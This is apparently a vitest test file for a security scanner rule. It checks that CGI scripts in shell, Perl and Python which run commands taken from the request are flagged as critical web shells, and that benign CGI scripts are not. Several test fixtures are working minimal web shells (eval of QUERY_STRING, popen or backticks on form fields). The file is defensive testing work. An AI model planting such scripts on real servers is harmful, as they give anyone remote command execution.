/**
 * CGI scripts in shell, Perl and Python that run what the request sends are web shells
 * (issue 27: a shell script in cgi-bin evaluating $QUERY_STRING was ranked medium); CGI
 * scripts that only read the request, or hand it to a fixed program as an argument, are not.
 */
import { describe, expect, it } from 'vitest';
import { evaluateChange } from '../../src/findings/change-rules.js';
import { addedFile, fileMeta } from '../support/change-facts.js';

const top = (path: string, text: string) =>
  evaluateChange(
    addedFile(path, text, {
      current: fileMeta({ sizeBytes: text.length, mode: 0o755 }),
      currentType: 'script',
    }),
  )[0]!;

describe('CGI scripts', () => {
  it.each([
    [
      'a shell script evaluating the query',
      '/usr/lib/cgi-bin/status.sh',
      '#!/bin/sh\necho "Content-type: text/plain"\necho\neval "$QUERY_STRING"\n',
    ],
    [
      'a shell script running a command taken from the query',
      '/var/www/cgi-bin/ping',
      '#!/bin/bash\necho "Content-type: text/html"; echo\nCMD=$(echo "$QUERY_STRING" | sed "s/^cmd=//")\n$CMD 2>&1\n',
    ],
    [
      'a shell script piping the query into a shell',
      '/usr/lib/cgi-bin/x.cgi',
      '#!/bin/sh\nprintf "Content-type: text/plain\\n\\n"\necho "${QUERY_STRING#c=}" | sh\n',
    ],
    [
      'a Perl CGI opening a pipe on a parameter',
      '/usr/lib/cgi-bin/cmd.pl',
      '#!/usr/bin/perl\n%FORM = parse($ENV{\'QUERY_STRING\'});\n$cmd = $FORM{\'cmd\'};\nprint "Content-Type: text/html\\r\\n\\r\\n";\nopen(CMD, "($cmd) 2>&1 |");\nprint while <CMD>;\n',
    ],
    [
      'a Perl CGI saved as .php, running backticks on a parameter',
      '/opt/x.php',
      "#!/usr/bin/perl\nuse CGI;\nmy $c = CGI::param('command');\nprint `$c`;\n",
    ],
    [
      'a Python CGI handing a form field to popen',
      '/srv/www/cgi-bin/run.py',
      "#!/usr/bin/python3\nimport cgi, os\nform = cgi.FieldStorage()\ncmd = form.getvalue('c')\nprint('Content-type: text/plain\\n')\nprint(os.popen(cmd).read())\n",
    ],
    [
      'a Python script reading QUERY_STRING into subprocess with a shell',
      '/usr/lib/cgi-bin/q',
      "#!/usr/bin/env python3\nimport os, subprocess\nq = os.environ['QUERY_STRING']\nprint(subprocess.check_output(q, shell=True))\n",
    ],
  ])('calls %s a web shell', (_, path, text) => {
    expect(top(path, text)).toMatchObject({
      rule: 'web-shell',
      severity: 'critical',
      reason: expect.stringMatching(/CGI script/),
    });
  });

  it.each([
    [
      'a shell CGI that parses the query and prints it',
      '/usr/lib/cgi-bin/echo.sh',
      '#!/bin/sh\necho "Content-type: text/plain"; echo\nNAME=$(echo "$QUERY_STRING" | sed "s/name=//")\necho "Hello $NAME"\nuptime\n',
    ],
    [
      'a Perl CGI running a fixed program with a parameter as its argument',
      '/usr/lib/cgi-bin/look.pl',
      "#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nmy $host = $q->param('host');\nsystem('/usr/bin/host', $host);\nopen(my $fh, '<', '/etc/motd');\neval { lookup($q->param('name')) };\n",
    ],
    [
      'a Python CGI running a fixed program on a form field',
      '/usr/lib/cgi-bin/dig.py',
      "#!/usr/bin/python3\nimport cgi, subprocess\nform = cgi.FieldStorage()\nname = form.getvalue('n')\nsubprocess.run(['dig', name])\n",
    ],
    [
      'a shell script outside any web place that reads no request',
      '/usr/local/bin/backup.sh',
      '#!/bin/sh\nCMD="tar czf /backup.tgz /etc"\neval "$CMD"\n',
    ],
  ])('does not call %s a web shell', (_, path, text) => {
    expect(top(path, text).severity).not.toMatch(/high|critical/);
  });
});
